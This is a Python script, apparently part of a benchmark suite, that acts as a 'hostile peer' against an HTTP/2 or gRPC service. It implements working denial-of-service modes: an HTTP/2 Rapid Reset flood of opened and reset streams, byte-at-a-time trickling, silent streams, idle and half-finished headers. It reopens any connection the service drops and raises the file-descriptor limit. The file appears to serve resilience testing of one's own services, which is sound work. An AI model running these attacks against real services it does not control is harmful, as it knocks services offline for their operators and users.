"""A hostile peer as a separate process: hand-made HTTP/2 frames, and silent sockets.

Every mode keeps its connections for `--seconds` and reopens those that the service closes. It
prints one line when the attack has started, and the counts of the attack as JSON at the end.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import sys
import time
from collections import Counter
from collections.abc import Callable, Coroutine
from contextlib import suppress
from pathlib import Path

from benchmarks.attacks.peers.frames import (
    ACK,
    ASK,
    PING,
    PREFACE,
    SETTINGS,
    call,
    data,
    frame,
    opening,
    reset,
    settings_ack,
)

# Without the empty line that ends a head.
HALF_HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\n"
CLOSED = (OSError, asyncio.IncompleteReadError)
STREAMS_A_CONNECTION = 100
REOPEN_SECONDS = 0.2

Work = Callable[["HostilePeer", int], Coroutine[None, None, None]]


class HostilePeer:
    """The state that all connections of one attack share.

    Args:
        host: host of the service.
        port: port of the service.
        seconds: duration of the attack.
        path: gRPC method of the streams.
        message: bytes that `trickle` sends one at a time.
    """

    def __init__(self, host: str, port: int, seconds: float, path: str, message: bytes) -> None:
        self._address = host, port
        self.deadline = time.monotonic() + seconds
        self.path = path
        self.message = message
        self.counts: Counter[str] = Counter()

    async def connected(self, first: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a connection and send `first`."""
        reader, writer = await asyncio.open_connection(*self._address)
        self.counts["connections"] += 1
        writer.write(first)
        return reader, writer

    async def repeat(self, work: Work, number: int) -> None:
        """Repeat the work whenever the service closes the connection, until the attack ends."""
        while time.monotonic() < self.deadline:
            with suppress(*CLOSED):
                await work(self, number)
            await asyncio.sleep(REOPEN_SECONDS)


async def drain_input(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Read frames and acknowledge SETTINGS and PING, as a live HTTP/2 peer does, until the end."""
    while True:
        head = await reader.readexactly(9)  # length (3), type, flags, stream id (4)
        body = await reader.readexactly(int.from_bytes(head[:3], "big"))
        if head[3] == SETTINGS and not head[4] & ACK:
            writer.write(settings_ack())
        elif head[3] == PING and not head[4] & ACK:
            writer.write(frame(PING, ACK, 0, body))


async def rapid_reset(peer: HostilePeer, number: int) -> None:
    """Open and reset streams as fast as the service accepts them."""
    reader, writer = await peer.connected(opening())
    reading = asyncio.create_task(drain_input(reader, writer))
    try:
        # Clients use odd stream ids up to 2^31 - 1; each batch opens 100 streams.
        for start in range(1, 2**31 - 400, 200):
            batch = range(start, start + 200, 2)
            writer.write(b"".join(call(stream, peer.path) + reset(stream) for stream in batch))
            peer.counts["streams"] += len(batch)
            await writer.drain()
            # The service has closed the connection; `repeat` opens another.
            if reading.done():
                return
    finally:
        reading.cancel()
        writer.close()


async def silent_streams(peer: HostilePeer, number: int) -> None:
    """Open streams and send nothing on them."""
    reader, writer = await peer.connected(opening())
    try:
        for stream in range(1, 2 * STREAMS_A_CONNECTION, 2):
            writer.write(call(stream, peer.path))
            peer.counts["streams"] += 1
        await writer.drain()
        await drain_input(reader, writer)
    finally:
        writer.close()


async def trickle(peer: HostilePeer, number: int) -> None:
    """Open a stream and send its question one byte at a time."""
    reader, writer = await peer.connected(opening() + call(1, peer.path))
    reading = asyncio.create_task(drain_input(reader, writer))
    peer.counts["streams"] += 1
    try:
        for byte in peer.message:
            writer.write(data(1, bytes([byte])))
            await asyncio.sleep(0.5)
            if reading.done():
                return
        await reading
    finally:
        reading.cancel()
        writer.close()


def _hold_connection(first: bytes, live: bool = False) -> Work:
    """Work that sends `first` and keeps the connection; if `live`, it acknowledges frames."""

    async def hold(peer: HostilePeer, number: int) -> None:
        reader, writer = await peer.connected(first)
        try:
            if live:
                await drain_input(reader, writer)
            while await reader.read(1024):
                pass
        finally:
            writer.close()

    return hold


MODES: dict[str, Work] = {
    "rapid_reset": rapid_reset,
    "silent_streams": silent_streams,
    "trickle": trickle,
    "idle": _hold_connection(b""),
    "preface": _hold_connection(PREFACE),
    "settings": _hold_connection(opening(), live=True),
    "half_head": _hold_connection(HALF_HEAD),
}


async def attack(peer: HostilePeer, work: Work, connections: int) -> None:
    """Run all connections of the attack until its time is over."""
    tasks = [asyncio.create_task(peer.repeat(work, number)) for number in range(connections)]
    await asyncio.sleep(1)  # until the connections are open
    print("attacking", flush=True)
    await asyncio.sleep(max(0.0, peer.deadline - time.monotonic()))
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


def main() -> int:
    """Run the attack and print its counts as JSON."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("mode", choices=MODES)
    parser.add_argument("target", help="host:port")
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--path", default=ASK)
    parser.add_argument("--message", type=Path, help="file with a serialised message, for trickle")
    options = parser.parse_args()
    # Every connection takes a descriptor, and the soft limit is often 1,024.
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    host, port = options.target.rsplit(":", 1)
    message = options.message.read_bytes() if options.message else bytes(4096)
    peer = HostilePeer(host, int(port), options.seconds, options.path, message)
    asyncio.run(attack(peer, MODES[options.mode], options.connections))
    print(json.dumps(peer.counts), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
